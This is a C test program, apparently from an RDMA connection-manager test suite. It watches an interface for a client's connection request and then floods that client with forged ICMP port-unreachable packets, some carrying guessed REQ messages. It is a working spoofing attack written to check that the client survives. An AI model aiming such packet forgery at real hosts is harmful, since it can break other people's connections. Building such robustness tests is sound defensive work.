// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Forged ICMP port unreachables at a client whose connection request
 * waits for a server that answers late.
 *
 *   cm_icmp IFNAME MS
 *	(root) watches IFNAME for a connection request and takes its
 *	addresses and UDP ports, nothing else, as an attacker who knows
 *	where the client talks but cannot read its traffic. Then, for MS,
 *	sends the client ICMP port unreachables for that request every
 *	20 ms: some quoting the IP and UDP headers alone, some with a REQ
 *	of a guessed communication ID after them.
 *
 * The client's exit status (cm_flood client) is the verdict.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "librdmacm/cm_msg.h"
#include "tests/hostile/cm_common.h"

static uint16_t csum(const void *p, size_t len)
{
	const uint8_t *b = p;
	uint32_t sum = 0;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (len & 1)
		sum += (uint32_t)b[len - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* The first REQ seen on @ifname: its IP header and UDP header. */
static void watch(const char *ifname, struct iphdr *ip, struct udphdr *udp)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_ALL) };
	uint8_t pkt[2048];
	struct cm_msg m;
	ssize_t n;
	int fd;

	ll.sll_ifindex = (int)if_nametoindex(ifname);
	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
	if (fd < 0 || bind(fd, (struct sockaddr *)&ll, sizeof(ll)))
		die("icmp: packet socket");
	printf("icmp: watching\n");
	fflush(stdout);
	for (;;) {
		const struct iphdr *i = (const void *)pkt;
		const struct udphdr *u;

		n = recv(fd, pkt, sizeof(pkt), 0);
		if (n < (ssize_t)(sizeof(*i) + sizeof(*u)) || i->version != 4 ||
		    i->protocol != IPPROTO_UDP)
			continue;
		u = (const void *)(pkt + i->ihl * 4);
		if (cm_msg_decode((const uint8_t *)(u + 1),
				  (size_t)n - i->ihl * 4 - sizeof(*u), &m) ||
		    m.attr != CM_ATTR_REQ)
			continue;
		*ip = *i;
		*udp = *u;
		break;
	}
	close(fd);
}

/* An ICMP port unreachable quoting @ip, @udp and @qlen bytes of @q. */
static void forge(int fd, const struct iphdr *ip, const struct udphdr *udp,
		  const uint8_t *q, size_t qlen)
{
	uint8_t buf[sizeof(struct icmphdr) + sizeof(*ip) + sizeof(*udp) +
		    CM_MAD_SIZE];
	struct icmphdr *icmp = (void *)buf;
	struct iphdr *qip = (void *)(icmp + 1);
	struct udphdr *qudp = (void *)(qip + 1);
	struct sockaddr_in to = { .sin_family = AF_INET };
	size_t len = sizeof(*icmp) + sizeof(*qip) + sizeof(*qudp) + qlen;

	memset(buf, 0, sizeof(buf));
	*qip = *ip;
	qip->ihl = 5;
	qip->tot_len = htons((uint16_t)(sizeof(*qip) + ntohs(udp->len)));
	qip->check = 0;
	qip->check = csum(qip, sizeof(*qip));
	*qudp = *udp;
	if (qlen)
		memcpy(qudp + 1, q, qlen);
	icmp->type = ICMP_DEST_UNREACH;
	icmp->code = ICMP_PORT_UNREACH;
	icmp->checksum = csum(buf, len);
	to.sin_addr.s_addr = ip->saddr;
	if (sendto(fd, buf, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		die("icmp: sendto");
}

static int spray(const char *ifname, int ms)
{
	struct cm_msg req = { .attr = CM_ATTR_REQ };
	uint8_t mad[CM_MAD_SIZE];
	struct udphdr udp;
	struct iphdr ip;
	unsigned int sent = 0;
	double end;
	int fd;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (fd < 0)
		die("icmp: raw socket");
	watch(ifname, &ip, &udp);
	printf("icmp: request %s:%u -> ",
	       inet_ntoa(*(struct in_addr *)&ip.saddr), ntohs(udp.source));
	printf("%s:%u seen\n", inet_ntoa(*(struct in_addr *)&ip.daddr),
	       ntohs(udp.dest));
	for (end = now_ms() + ms; now_ms() < end; usleep(20000)) {
		forge(fd, &ip, &udp, NULL, 0);
		if (getrandom(&req.local_id, sizeof(req.local_id), 0) !=
		    sizeof(req.local_id))
			die("getrandom");
		req.tid = (uint64_t)req.local_id << 32 | CM_ATTR_REQ;
		if (cm_msg_encode(&req, mad))
			die("cm_msg_encode");
		forge(fd, &ip, &udp, mad, sizeof(mad));
		sent += 2;
	}
	printf("icmp: sent %u forged port unreachables\n", sent);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3)
		return spray(argv[1], atoi(argv[2]));
	fprintf(stderr, "usage: see the comment at the top of cm_icmp.c\n");
	return 2;
}
